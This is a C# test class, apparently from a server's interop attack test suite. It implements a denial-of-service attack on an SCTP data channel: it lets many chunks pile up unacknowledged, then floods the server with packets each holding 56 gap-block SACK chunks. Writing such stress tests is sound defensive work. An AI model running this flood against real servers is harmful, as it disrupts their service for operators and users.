using System.Buffers.Binary;
using System.Text.Json.Nodes;
using Tureen.Engine.Primitives;
using Tureen.Interop.Tests.Native;
using Tureen.Tests.Engine.Sctp;

namespace Tureen.Interop.Tests.Attacks.Sctp;

/// <summary>56 SACK chunks in each packet, while as many chunks of the server are outstanding as it lets be.</summary>
internal sealed class SackAttack : SctpAttack
{
    private const int SacksPerPacket = 56;
    private const int GrowthMessage = 1_000;
    private const uint Window = 8 << 20;
    private const uint BinaryPayload = 53;

    /// <summary>Small messages, each a chunk, that are outstanding in the end if the server lets them be.</summary>
    private const int SmallMessages = 16_500;

    private const int MessagesPerPacket = 55;
    private const double GrowthRate = 4_000;

    /// <summary>Shorter than the time after which chunks are sent again and the window shrinks.</summary>
    private static readonly TimeSpan PilingTime = TimeSpan.FromSeconds(0.4);

    private static readonly TimeSpan GrowthTime = TimeSpan.FromSeconds(0.3);

    private uint _acknowledged;
    private uint _highest;
    private int _received;
    private bool _isAcknowledging;

    public override string Name => "S3 SACKs";

    protected override double PacketsPerSecond => 812;

    public override async Task<string> RunAsync(AttackScene scene, TimeSpan duration)
    {
        // 1. Two peers: what one writes in the chat, the server sends to the other.
        Participant writer = await scene.JoinAsync("writer");
        Participant reader = await scene.JoinAsync("reader");
        var source = new RawAssociation(scene.Network, writer.Sending);
        await source.ConnectAsync();
        var association = new RawAssociation(scene.Network, reader.Receiving);
        await association.ConnectAsync();
        await writer.Signaling.RequestAsync("produceData", new JsonObject
        {
            ["transportId"] = writer.SendTransport.Id,
            ["sctpStreamParameters"] = new JsonObject { ["streamId"] = 0, ["ordered"] = true },
            ["label"] = "chat",
            ["protocol"] = string.Empty,
            ["appData"] = new JsonObject { ["channel"] = "chat" },
        });
        await reader.Signaling.WaitForAsync("newDataConsumer", 2);

        // 2. What has piled up is acknowledged chunk by chunk, so that the window grows, and then nothing is.
        _acknowledged = association.PeerInitialTsn - 1;
        _highest = _acknowledged;
        association.ChunkReceived = (now, type, value, sink) => HandleChunk(association, now, type, value, sink);
        uint tsn = source.NextTsn;
        ushort sequence = 0;
        await scene.Network.SendAsync(GrowthRate, PilingTime, (now, sink) => source.Send(now, Message(tsn++, sequence++, GrowthMessage), sink));
        await scene.Network.InvokeAsync((now, sink) =>
        {
            _isAcknowledging = true;
            Acknowledge(association, now, sink);
        });
        await Task.Delay(GrowthTime);
        await scene.Network.InvokeAsync((_, _) => _isAcknowledging = false);
        await scene.Network.SendAsync(SmallMessages / MessagesPerPacket, TimeSpan.FromSeconds(1), (now, sink) =>
            source.Send(now, [.. Enumerable.Range(0, MessagesPerPacket).SelectMany(_ => Message(tsn++, sequence++, 1))], sink));
        await Task.Delay(TimeSpan.FromMilliseconds(100));

        // 3. The last of them came, the others did not.
        return $"{_received} chunks came, {_highest - _acknowledged} outstanding, {await RunAsync(scene, association, duration)}";
    }

    protected override IEnumerable<byte[]> Packets(RawAssociation association)
    {
        while (true)
        {
            byte[] sack = Sack(_acknowledged, (ushort)Math.Min(ushort.MaxValue, _highest - _acknowledged));
            yield return [.. Enumerable.Range(0, SacksPerPacket).SelectMany(_ => sack)];
        }
    }

    private void HandleChunk(RawAssociation association, Timestamp now, byte type, byte[] value, IDatagramSink sink)
    {
        // What is sent again has a lower number.
        _received += type == RawAssociation.DataChunk ? 1 : 0;
        if (type != RawAssociation.DataChunk || (int)(BinaryPrimitives.ReadUInt32BigEndian(value) - _highest) <= 0)
        {
            return;
        }

        _highest = BinaryPrimitives.ReadUInt32BigEndian(value);
        if (_isAcknowledging)
        {
            Acknowledge(association, now, sink);
        }
    }

    private void Acknowledge(RawAssociation association, Timestamp now, IDatagramSink sink)
    {
        _acknowledged = _highest;
        association.Send(now, Sack(_acknowledged), sink);
    }

    private static byte[] Sack(uint tsn, ushort gap = 0)
    {
        byte[] block = [(byte)(gap >> 8), (byte)gap];
        return SctpPacketBytes.Chunk(RawAssociation.SackChunk, 0, gap > 0
            ? [.. SctpPacketBytes.Number(tsn), .. SctpPacketBytes.Number(Window), 0, 1, 0, 0, .. block, .. block]
            : [.. SctpPacketBytes.Number(tsn), .. SctpPacketBytes.Number(Window), 0, 0, 0, 0]);
    }

    private static byte[] Message(uint tsn, ushort sequence, int length) => SctpPacketBytes.Chunk(RawAssociation.DataChunk, 3, [
        .. SctpPacketBytes.Number(tsn), 0, 0, (byte)(sequence >> 8), (byte)sequence, .. SctpPacketBytes.Number(BinaryPayload), .. new byte[length]]);
}
